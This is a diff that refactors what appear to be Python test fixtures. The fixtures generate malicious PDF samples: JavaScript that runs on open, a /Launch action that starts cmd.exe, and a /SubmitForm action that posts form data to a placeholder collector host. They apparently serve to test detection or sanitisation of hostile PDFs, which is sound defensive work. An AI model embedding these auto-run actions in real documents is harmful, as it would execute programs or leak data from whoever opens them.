@@ -54,13 +54,16 @@ def _javascript(code: str) -> DictionaryObject:
     )
 
 
+def _opening_with(text: str, action: DictionaryObject) -> bytes:
+    """A document (titled ``text``) that runs ``action`` when it opens (the catalog's /OpenAction)."""
+    writer = _document(text)
+    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
+    return _written(writer)
+
+
 def open_action_javascript() -> bytes:
     """JavaScript run when the document opens (the catalog's /OpenAction)."""
-    writer = _document("open action")
-    writer._root_object[NameObject("/OpenAction")] = writer._add_object(
-        _javascript("app.alert('owned');")
-    )
-    return _written(writer)
+    return _opening_with("open action", _javascript("app.alert('owned');"))
 
 
 def names_tree_javascript() -> bytes:
@@ -100,31 +103,21 @@ def annotation_javascript() -> bytes:
 
 def launch_action() -> bytes:
     """A /Launch action on opening: runs a program."""
-    writer = _document("launch")
-    writer._root_object[NameObject("/OpenAction")] = writer._add_object(
-        DictionaryObject(
-            {
-                NameObject("/Type"): NameObject("/Action"),
-                NameObject("/S"): NameObject("/Launch"),
-                NameObject("/F"): TextStringObject("cmd.exe"),
-            }
-        )
-    )
-    return _written(writer)
+    action = {
+        NameObject("/Type"): NameObject("/Action"),
+        NameObject("/S"): NameObject("/Launch"),
+        NameObject("/F"): TextStringObject("cmd.exe"),
+    }
+    return _opening_with("launch", DictionaryObject(action))
 
 
 def submit_form_action() -> bytes:
     """A /SubmitForm action: sends form data elsewhere."""
-    writer = _document("submit form")
-    writer._root_object[NameObject("/OpenAction")] = writer._add_object(
-        DictionaryObject(
-            {
-                NameObject("/S"): NameObject("/SubmitForm"),
-                NameObject("/F"): TextStringObject("https://collector.invalid/"),
-            }
-        )
-    )
-    return _written(writer)
+    action = {
+        NameObject("/S"): NameObject("/SubmitForm"),
+        NameObject("/F"): TextStringObject("https://collector.invalid/"),
+    }
+    return _opening_with("submit form", DictionaryObject(action))
 
 
 def embedded_file() -> bytes:
